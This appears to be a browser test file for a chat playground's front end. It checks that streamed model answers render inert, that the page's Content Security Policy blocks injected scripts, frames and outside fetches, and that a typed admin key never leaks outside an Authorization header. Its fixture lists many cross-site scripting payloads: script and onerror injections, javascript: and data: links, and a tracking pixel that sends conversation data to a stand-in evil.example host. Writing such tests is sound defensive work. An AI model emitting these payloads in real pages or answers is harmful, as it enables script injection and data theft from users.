// What a model says is text: nothing of it runs, loads or leaves by itself. And what a visitor
// types in as a key stays where it belongs.
import { expect, inject, it } from 'vitest';
import { withBrowser } from '../harness/browser.ts';
import { answerEnd, askInPage, greedyUrl, textOf } from '../harness/playground.ts';
import { until } from '../harness/processes.ts';
import { scriptAnswers } from '../harness/scripted-answers.ts';
import { startServer } from '../harness/server.ts';

const url = inject('serverUrl');
const visit = withBrowser();

/** `taken` is what each of them would set. */
const HOSTILE = [
  '<script>window.taken = 1</script>',
  '<img src=x onerror="window.taken = 2">',
  '<svg onload="window.taken = 3"><script>window.taken = 4</script></svg>',
  '<iframe srcdoc="<script>parent.taken = 5</script>" src="https://evil.example/frame"></iframe>',
  '<details open ontoggle="window.taken = 6"><summary>more</summary></details>',
  '<style>@import url(https://evil.example/a.css); * { background: url(//evil.example) }</style>',
  '<link rel="stylesheet" href="https://evil.example/b.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input autofocus onfocus="window.taken = 7"></form>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<a href="javascript:window.taken = 8">raw</a>',
  '<math><a xlink:href="javascript:window.taken=9">m</a></math>',
  '[one](javascript:window.taken=10) [two](JaVaScRiPt&colon;window.taken=11)',
  '[three]( java\nscript:window.taken=12) [four](&#106;avascript:window.taken=13)',
  '[five](data:text/html,<script>opener.taken=14</script>) [six](vbscript:window.taken=15)',
  '[seven](https://evil.example/ "x\\" onmouseover=\\"window.taken=16")',
  '<javascript:window.taken=17>',
  '![tracker](https://evil.example/pixel.png?conversation=secret) ![](//evil.example/p.png)',
  '![eight](javascript:window.taken=18) ![x" onerror="window.taken=19](y)',
  '[ref]: javascript:window.taken=20\n\nSee [the reference][ref] and https://evil.example/auto.',
  '```html"><img src=x onerror=window.taken=21>\n</code></pre><script>taken = 22</script>\n```',
  '`</code><img src=x onerror=window.taken=23>` | a |\n|---|\n| <b onclick=window.taken=24>b</b> |',
  '$\\href{javascript:window.taken=25}{x}$ $$\\html{<img src=x onerror=window.taken=26>}$$',
  '```mermaid\ngraph TD; A-->B; click A "javascript:window.taken=27"\n```',
  '&lt;script&gt;window.taken=28&lt;/script&gt; \u202emoc.live\u202c',
  '\u0000<\u0000script>window.taken=29</script>',
].join('\n\n');

/** In slices that part tags, attributes and fences at every place. */
function* slices(): Iterable<string> {
  for (let start = 0; start < HOSTILE.length; start += 7) yield HOSTILE.slice(start, start + 7);
}

it('hostile answers are inert, while they stream and when they are whole', async () => {
  const page = await visit(await scriptAnswers(url, slices));
  const answer = await askInPage(page, 'Be evil.');
  await expect.poll(() => answer.textContent()).toContain('evil.example/auto');

  const findActive = `[...document.querySelectorAll('article *')]
    .filter((element) =>
      element.matches('script, iframe, object, embed, form, style, link, base, meta, math') ||
      element.matches('img:not([src^="data:"])') ||
      [...element.attributes].some(({ name }) => name.startsWith('on')))
    .map(({ outerHTML }) => outerHTML)`;
  expect(await page.evaluate(findActive)).toEqual([]);

  const links = `[...document.querySelectorAll('article a[href]')].map(
    ({ protocol, target, rel }) => [protocol, target, rel.split(' ').sort().join(' ')])`;
  for (const link of (await page.evaluate(links)) as string[][]) {
    expect(link).toEqual([
      expect.stringMatching(/^(https?|mailto):$/),
      '_blank',
      expect.any(String),
    ]);
    expect(link[2]).toContain('noopener noreferrer');
  }
  // Whatever can be pressed in the answer is.
  for (const button of await answer.getByRole('button', { name: /load|image|show/i }).all()) {
    await button.click();
  }
  expect(await page.evaluate('window.taken')).toBeUndefined();
  expect(new URL(page.url()).hostname).toBe('127.0.0.1');
});

/** The parts of the policy that something is tried against. */
const STOPPED = [
  'connect-src',
  'frame-src',
  'img-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-elem',
];

it('the policy stops what would get past the page itself', async () => {
  const expected = [/Content Security Policy/i, /^Policy /, /Refused/, /status of 404/];
  const page = await visit(url, { expected });
  const tried = await page.evaluate(`(async () => {
    const breaches = [];
    addEventListener('securitypolicyviolation', (event) => breaches.push(event.violatedDirective));
    const add = (tag, fields) =>
      document.body.append(Object.assign(document.createElement(tag), fields));
    add('script', { textContent: 'window.taken = 1' });
    add('script', { src: 'https://evil.example/a.js' });
    add('style', { textContent: 'body { display: none }' });
    add('iframe', { src: 'https://evil.example/' });
    add('img', { src: 'https://evil.example/pixel.png' });
    add('div', { innerHTML: '<img src=x onerror="window.taken = 2">' });
    setTimeout('window.taken = 3');
    const left = await fetch('https://evil.example/').then(() => true, () => false);
    const looked = new Promise((resolve) => {
      const look = () => {
        if (${JSON.stringify(STOPPED)}.every((one) => breaches.includes(one))) resolve();
      };
      addEventListener('securitypolicyviolation', look);
      look();
    });
    await looked;
    return { taken: window.taken ?? null, left };
  })()`);
  // What was tried has all been reported by now, and nothing of it has happened.
  expect(tried).toEqual({ taken: null, left: false });
});

it('a key that is typed in goes to the server in a header, and nowhere else', async () => {
  const secret = 'sk-of-a-visitor-0123456789';
  const server = await startServer(['--log-level', 'debug'], 0, { SPRY_API_KEY: secret });
  try {
    const expected = [/status of 401/];
    const page = await visit(`${server.url}/console/keys`, { expected });
    const addresses: string[] = [];
    let headerCount = 0;
    page.on('request', (request) => {
      addresses.push(request.url());
      if (request.headers()['authorization'] === `Bearer ${secret}`) headerCount++;
    });
    await page.getByLabel('Admin key').fill(secret);
    await page.getByRole('button', { name: 'Unlock' }).click();
    await page.getByRole('button', { name: 'Forget the key' }).waitFor();

    await page.goto(greedyUrl(server.url, 20));
    await textOf(await askInPage(page, 'Hello'));
    await answerEnd(page);
    addresses.push(page.url());
    const kept = 'JSON.stringify({ ...localStorage }) + document.cookie + location.href';
    expect(await page.evaluate(kept)).not.toContain(secret);
    expect(addresses.join()).not.toContain(secret);
    expect(headerCount).toBeGreaterThan(0);
    await until(() => server.log().includes('/v1/chat/completions'));
    expect(server.log()).not.toContain(secret);
    // A page that is open misses a server that stops, and says so.
    await page.close();
  } finally {
    await server.stop();
  }
});
